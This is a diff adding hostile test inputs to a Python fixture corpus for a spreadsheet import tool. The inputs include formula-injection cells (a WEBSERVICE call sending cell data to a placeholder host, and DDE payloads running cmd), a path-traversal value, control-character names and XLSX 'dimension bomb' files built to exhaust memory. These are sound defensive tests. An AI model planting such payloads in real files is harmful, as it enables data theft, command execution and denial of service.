@@ -17,6 +17,11 @@ CHARGE_HEADER = ["房号", "收费项目", "所属期间", "金额", "到期日"
 LONG = "张" * 5000
 ID = "420102198005171232"   # valid under GB 11643 (check digit 2)
 CONTROL_NAMES = {"nul": "张\x00伟", "esc": "张\x1b[31m伟", "rlo": "张\u202e伟"}
+BAD_CHECK_ID = ID[:17] + "3"                  # wrong check digit: the row is refused
+# text a spreadsheet would run as a formula (OWASP CSV injection): stored as text, written inert
+FORMULA_CELLS = ['=WEBSERVICE("http://x/"&A1)', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
+OWNER_ADDRESS_HEADER = OWNER_HEADER + ["通讯地址", "备注"]
 
 
 def _png(width: int, height: int) -> bytes:
@@ -92,6 +97,43 @@ def _xlsx(rows: list[list[object]]) -> bytes:
     return buf.getvalue()
 
 
+def _formula_xlsx() -> bytes:
+    """Formula-looking text cells (as Excel keeps them when typed with a leading apostrophe),
+    and one real formula in an ignored column; the ID number's check digit is wrong."""
+    from openpyxl import Workbook
+    wb = Workbook()
+    ws = wb.active
+    ws.append(OWNER_ADDRESS_HEADER)
+    ws.append(["1-1-101", FORMULA_CELLS[0], "个人", BAD_CHECK_ID, "13907181234", FORMULA_CELLS[1], "=1+1"])
+    for cell in ws[2][:6]:
+        cell.data_type = "s"
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
+
+
+def _dimension_bomb(ref: str = "A1:XFD1048576", extra_row: str | None = None) -> bytes:
+    """A small owners sheet whose <dimension> claims every cell of the worksheet (16,384 columns
+    × 1,048,576 rows) and which has 30,000 empty <row/> elements after its one good row (as
+    Excel writes for formatted rows): whoever trusts the dimension pads each to 16,384 cells,
+    4 GB. `extra_row`: XML added at the end of the sheet data instead (a cell far down or right)."""
+    if extra_row is None:
+        extra_row = "".join(f'<row r="{n}"/>' for n in range(3, 30_003))
+    import re
+    import zipfile
+    src = io.BytesIO(_xlsx([OWNER_HEADER, ["1-1-101", "张伟", "个人", ID, "13907181234"]]))
+    out = io.BytesIO()
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
+        for item in zin.infolist():
+            data = zin.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(), data)
+                assert ref.encode() in data
+                data = data.replace(b"</sheetData>", extra_row.encode() + b"</sheetData>")
+            zout.writestr(item, data)
+    return out.getvalue()
+
+
 def _letter(**changes) -> dict:
     """Valid dunning-letter data (the shape of `templates example dunning-letter`) with changes."""
     data = {
@@ -140,6 +182,15 @@ def corpus() -> dict[str, bytes]:
         "units-slash.csv": _csv([UNIT_HEADER, ["1/1/101", "阳光花园", "1", "1", "101", "98.56", "2.20"]]),
         "owners-unit-dotdot.csv": _csv([OWNER_HEADER, ["../../etc/passwd", "张伟", "个人", ID, "13907181234"]]),
     }
+    files["owners-formula.csv"] = _csv([OWNER_ADDRESS_HEADER] + [
+        [unit, name, "个人", BAD_CHECK_ID, "13907181234", FORMULA_CELLS[-1 - i], ""]
+        for i, (unit, name) in enumerate(zip(("1-1-101", "1-1-102", "1-1-201"), FORMULA_CELLS))])
+    files["owners-formula.xlsx"] = _formula_xlsx()
+    files["owners-dimension-bomb.xlsx"] = _dimension_bomb()
+    files["owners-row-1048576.xlsx"] = _dimension_bomb(extra_row='<row r="1048576"><c r="A1048576" '
+                                                       't="inlineStr"><is><t>x</t></is></c></row>')
+    files["owners-column-XFD.xlsx"] = _dimension_bomb(extra_row='<row r="3"><c r="XFD3" '
+                                                      't="inlineStr"><is><t>x</t></is></c></row>')
     for key, name in CONTROL_NAMES.items():
         files[f"owners-control-{key}.csv"] = _csv([OWNER_HEADER, ["1-1-101", name, "个人", ID, "13907181234"]])
     # JSON data → `formsmith render dunning-letter --data`
